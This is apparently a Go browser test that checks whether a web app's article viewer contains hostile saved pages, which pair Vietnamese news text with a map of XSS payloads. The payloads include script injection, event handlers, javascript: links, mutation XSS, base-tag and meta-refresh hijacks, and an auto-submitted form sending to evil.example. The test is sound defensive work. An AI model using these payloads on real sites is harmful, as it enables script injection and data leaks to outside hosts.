package webtest

import (
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/chromedp"
)

const hostileText = `<p>Sáng 5/6/2025, Đại tá Trần Văn Mẫu, Giám đốc Công an tỉnh Nghệ An, chủ trì cuộc họp bàn về phòng cháy ở các chợ lớn trong tỉnh.</p>
<p>Các đơn vị báo cáo kết quả kiểm tra, xử lý vi phạm và kế hoạch của quý sau trước khi thảo luận về kinh phí và phương tiện.</p>`

// hostilePages try to reach out of their frame. Each sets a mark on what it
// reaches: the title HACKED, a dialog, a request, another address.
var hostilePages = map[string]string{
	"script":   `<script>top.document.title="HACKED";alert(1);fetch("http://evil.example/")</script>`,
	"handlers": `<img src=x onerror="top.document.title='HACKED'"><body onload="alert(1)"><details open ontoggle=alert(1)>`,
	"links":    `<a id=go href="javascript:top.document.title='HACKED'">x</a><a href="data:text/html,<script>alert(1)</script>">y</a>`,
	"svg":      `<svg onload="top.document.title='HACKED'"><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
	"math":     `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	"base":     `<base href="http://evil.example/" target="_top"><a href="x">x</a><img src="y.png">`,
	"refresh":  `<meta http-equiv="refresh" content="0;url=http://evil.example/">`,
	"form":     `<form action="http://evil.example/"><input autofocus name=a><button>x</button></form><script>document.forms[0].submit()</script>`,
	"style":    `<style>@import "http://evil.example/a.css"; body{background:url(http://evil.example/b.png)}</style><link rel=stylesheet href="http://evil.example/c.css">`,
	"frames":   `<iframe src="http://evil.example/"></iframe><object data="http://evil.example/o"></object><embed src="http://evil.example/e"><iframe srcdoc="<script>top.document.title='HACKED'</script>"></iframe>`,
	"title":    "<title>&lt;script&gt;document.title='HACKED'&lt;/script&gt; \x1b[31m &#x202e;gnp.exe</title>",
	"media":    `<video src="http://evil.example/v.mp4" autoplay poster="http://evil.example/p.jpg"></video><audio src="http://evil.example/a.mp3" autoplay></audio><link rel=prefetch href="http://evil.example/f"><link rel=preconnect href="http://evil.example/">`,
	"noscript": `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript><template><script>alert(1)</script></template>`,
	"huge":     "<div>" + strings.Repeat("<span>chữ </span>", 20_000) + "</div>",
}

// TestHostilePages shows saved pages that attack who reads them: nothing happens
// outside their frame, and nothing is asked of any other host.
func TestHostilePages(t *testing.T) {
	chromium(t)
	dir := t.TempDir()
	for name, attack := range hostilePages {
		page := `<!doctype html><html><head><meta charset="utf-8"><title>Họp bàn ` + name + `</title></head><body><h1>Họp bàn ` + name +
			` &lt;img src=x onerror=alert(1)&gt;</h1><article>` + hostileText + `</article>` + attack + `</body></html>`
		if err := os.WriteFile(filepath.Join(dir, name+".html"), []byte(page), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	s := serve(t, dir)
	b := s.open(t, 1440, 900)
	b.visit("/search?q=" + url.QueryEscape("Trần Văn Mẫu") + "&limit=100")
	var articles []string
	for _, path := range b.links() {
		if strings.HasPrefix(path, "/article?") {
			articles = append(articles, path)
		}
	}
	if len(articles) < len(hostilePages)-2 {
		t.Errorf("search gives %d articles of %d pages", len(articles), len(hostilePages))
	}
	for _, path := range articles {
		b.visit(path)
		b.do(chromedp.WaitVisible(chromedp.CSS("main iframe")), chromedp.Sleep(700*time.Millisecond))
		if title := b.eval(`document.title`); strings.HasPrefix(title, "HACKED") {
			t.Errorf("%s: the page changed the title of ours", path)
		}
		if at := b.where(); at != path {
			t.Errorf("%s: the page led away to %s", path, at)
		}
		if n := b.eval(`document.querySelectorAll("main script, main img[src=x]").length`); n != "0" {
			t.Errorf("%s: %s elements of the page are elements of ours", path, n)
		}
		b.clean()
	}
}
